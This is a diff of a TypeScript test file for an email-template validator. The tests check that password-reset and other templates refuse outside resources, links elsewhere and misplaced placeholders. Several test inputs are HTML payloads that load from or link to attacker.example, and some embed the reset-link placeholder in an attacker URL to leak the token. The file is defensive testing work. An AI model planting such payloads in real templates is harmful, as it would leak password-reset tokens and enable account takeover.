@@ -9,11 +9,13 @@ const LINK = `${SITE}/portal/reset-password/secret-token`
 
 describe('templateProblems', () => {
   it('passes every built-in template', () => {
-    for (const key of EMAIL_TEMPLATE_KEYS) expect(templateProblems(DEFAULT_EMAIL_TEMPLATES[key], SITE), key).toEqual([])
+    for (const key of EMAIL_TEMPLATE_KEYS)
+      expect(templateProblems(key, DEFAULT_EMAIL_TEMPLATES[key], SITE), key).toEqual([])
   })
 
   it('refuses outside resources and links elsewhere', () => {
-    const paths = (html: string) => templateProblems({ subject: 's', text: 't', html }, SITE).map((p) => p.path)
+    const paths = (html: string) =>
+      templateProblems('password-reset', { subject: 's', text: 't', html }, SITE).map((p) => p.path)
     for (const html of [
       '<img src="https://attacker.example/p.gif">',
       '<p style="background:url(https://attacker.example/p.gif)">x</p>',
@@ -21,15 +23,22 @@ describe('templateProblems', () => {
       '<link rel="stylesheet" href="https://attacker.example/s.css">',
       '<style>@import "https://attacker.example/s.css"</style>',
       '<a href="https://attacker.example/">x</a>',
-      '<a href="{{company}}">x</a>',
+      '<a href="{{first_name}}">x</a>',
     ])
       expect(paths(html), html).toContain('html')
     expect(paths(`<a href="${SITE}/blog">Our blog</a> <a href="mailto:hi@example.com">hi</a>`)).toEqual([])
   })
 
+  it('refuses values the message does not supply', () => {
+    const ack = { subject: 'Thanks, {{first_name}}', text: 'Hello', html: '<p>{{office_hours}}</p>' }
+    expect(templateProblems('lead-acknowledgement', ack, SITE)).toEqual([
+      { path: 'subject', message: '{{first_name}} is not available in this message.' },
+    ])
+  })
+
   it('refuses the link placeholder anywhere but as text of its own', () => {
     const check = (t: { subject?: string; text?: string; html?: string }) =>
-      templateProblems({ subject: 's', text: 't', html: '<p>x</p>', ...t }, SITE).map((p) => p.path)
+      templateProblems('password-reset', { subject: 's', text: 't', html: '<p>x</p>', ...t }, SITE).map((p) => p.path)
     expect(check({ html: `<a href='https://attacker.example/?t=>{{link}}'>x</a>` })).toContain('html')
     expect(check({ html: '<img src="https://attacker.example/p.gif?t={{link}}">' })).toContain('html')
     expect(check({ html: '<p>Use this: {{link}}</p>' })).toEqual([])
